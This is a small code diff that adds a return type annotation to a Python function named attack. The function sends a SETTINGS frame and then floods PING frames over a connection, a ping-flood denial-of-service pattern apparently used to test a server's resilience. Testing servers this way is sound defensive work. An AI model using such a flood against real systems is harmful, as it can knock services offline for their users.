@@ -3,7 +3,7 @@
 from wire import PING, SETTINGS, frame, serve
 
 
-def attack(wire):
+def attack(wire) -> None:
     wire.send(frame(SETTINGS, 0, 0))
     wire.flood(frame(PING, 0, 0, bytes(8)))
 
